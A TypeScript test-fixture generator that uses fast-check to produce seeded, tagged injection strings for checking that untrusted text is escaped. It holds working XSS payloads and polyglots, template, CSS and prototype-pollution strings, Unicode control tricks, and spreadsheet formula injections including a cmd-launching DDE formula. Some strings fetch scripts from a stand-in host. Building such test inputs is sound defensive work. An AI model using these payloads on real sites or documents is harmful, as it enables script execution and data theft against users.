/** Texts that would run, load or change something wherever they were taken for anything but text. */
import fc from 'fast-check';

/** Every element they would make carries it. */
export const mark = 'data-injected';
/** Every global they would set, every address they would ask for and every property of style begins with it. */
export const trace = 'injected';

const run = `globalThis.${trace}=1`;
const act = fc.constantFrom(
  run,
  `${run};alert(1)`,
  `self['${trace}']=1`,
  `import('//${trace}.invalid/x.js')`,
  `Function('${run}')()`,
);
const blank = fc.constantFrom(' ', '\n', '/', '\t', '  ');
const quote = fc.constantFrom('"', "'", '`', '');
/** As browsers, parsers and people write it. */
const cased = (name: string): fc.Arbitrary<string> =>
  fc.constantFrom(name, name.toUpperCase(), name.charAt(0).toUpperCase() + name.slice(1));
const joined = (...parts: readonly (string | fc.Arbitrary<string>)[]): fc.Arbitrary<string> =>
  fc.tuple(...parts.map((part) => (typeof part === 'string' ? fc.constant(part) : part))).map((all) => all.join(''));

const handler = fc.constantFrom(
  'onload',
  'onerror',
  'onfocus autofocus tabindex=0 onfocus',
  'onanimationstart',
  'onclick',
  'ontoggle',
  'onpointerenter',
  'onbegin',
);
const tag = fc.constantFrom(
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input',
  'iframe src=x',
  'object data=x',
  'marquee',
  'audio src=x',
  'math',
  'style',
);

/** By kind; each is drawn equally often. */
const kinds: Readonly<Record<string, fc.Arbitrary<string>>> = {
  script: joined('<', cased('script'), blank, mark, '>', act, '</', cased('script'), '>'),
  handler: joined('<', tag, blank, `${mark} `, handler, '=', quote, act, quote, '>'),
  address: joined(
    fc.constantFrom(
      '',
      `<a ${mark} href=`,
      `<iframe ${mark} src=`,
      `<form ${mark} action=`,
      `[texto](`,
      `<base ${mark} href=`,
    ),
    quote,
    fc.constantFrom(
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      'data:text/html,<script>',
      'vbscript:',
      ' javascript:',
      `//${trace}.invalid/`,
      `http://${trace}.invalid/?`,
    ),
    act,
  ),
  svg: joined(
    `<svg ${mark}><`,
    fc.constantFrom(
      'script',
      'animate onbegin',
      'set onend',
      'foreignObject><script',
      `use href="//${trace}.invalid/#x"`,
      'style',
    ),
    '>',
    act,
    '</svg>',
  ),
  template: joined(
    fc.constantFrom('{{', '${', '{@html ', '<%=', '#{', '{%', '[[', '*{'),
    act,
    fc.constantFrom('}}', '}', '%>', '%}', ']]'),
  ),
  style: joined(
    fc.constantFrom(
      '</style><style>',
      `<style ${mark}>`,
      `<link ${mark} rel=stylesheet href=//${trace}.invalid/x.css>`,
      '" style="',
      '@import url(',
    ),
    fc.constantFrom(
      `:root{--${trace}:1}`,
      `body{background:url(//${trace}.invalid/x)}`,
      `//${trace}.invalid/x.css)`,
      'expression(alert(1))',
      `*{display:none!important}`,
    ),
  ),
  breakout: joined(
    fc.constantFrom(
      '"',
      "'",
      '`',
      '">',
      "'>",
      '-->',
      ']]>',
      '</textarea>',
      '</title>',
      '</script>',
      '"}',
      '"}]}',
      '\\"',
      '\\u0022',
      '*/',
      '</w:t></w:r></w:p>',
      '&quot;&gt;',
      '&#x3c;',
    ),
    fc.constantFrom(
      `<script ${mark}>`,
      `<img ${mark} src=x onerror=`,
      `,"kind":"welcome","x":"`,
      ');',
      `<w:p/>`,
      `&lt;script&gt;`,
      '__proto__',
      `{"constructor":{"prototype":{"${trace}":1}}}`,
    ),
    act,
  ),
  letters: joined(
    fc.constantFrom(
      '\u202E',
      '\u2066',
      '\u200F',
      '\u0000',
      '\u001B[31m',
      '\uFEFF',
      '\u2028',
      '\u0085',
      '\uFF1C',
      '\u200B',
    ),
    fc.constantFrom(
      `<script ${mark}>`,
      `<img ${mark} src=x onerror=`,
      '\u202Etpircs',
      '\u0000<\u0000s\u0000c\u0000r\u0000i\u0000p\u0000t>',
      '🏳️‍🌈',
      'مرحبا',
    ),
    act,
  ),
  formula: joined(
    fc.constantFrom('=', '+', '@', '-', '\t='),
    fc.constantFrom(`HYPERLINK("http://${trace}.invalid","x")`, "cmd|' /C calc'!A0", `IMPORTXML("//${trace}.invalid")`),
    act,
  ),
  polyglot: fc.constantFrom(
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg ${mark}/<sVg ${mark}/oNloAd=${run}//>\\x3e`,
    `'"><!--<img ${mark} src="--><img ${mark} src=x onerror=${run}//">`,
    `<noscript ${mark}><p title="</noscript><img ${mark} src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img ${mark} title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<template ${mark} shadowrootmode=open><script>${run}</script></template>`,
  ),
};

/** The same ones for the same seed, no two alike, the kinds by turns; each ends in its number. */
export function injectedTexts(count: number, seed = 20_261_128): readonly string[] {
  const drawn = Object.values(kinds).map((kind, at) => [
    ...new Set(fc.sample(kind, { seed: seed + at, numRuns: count })),
  ]);
  const byTurns = Array.from({ length: count }, (_, at) => drawn.flatMap((texts) => texts[at] ?? [])).flat();
  return byTurns.slice(0, count).map((text, at) => `${text} ·${at}`.trimStart());
}
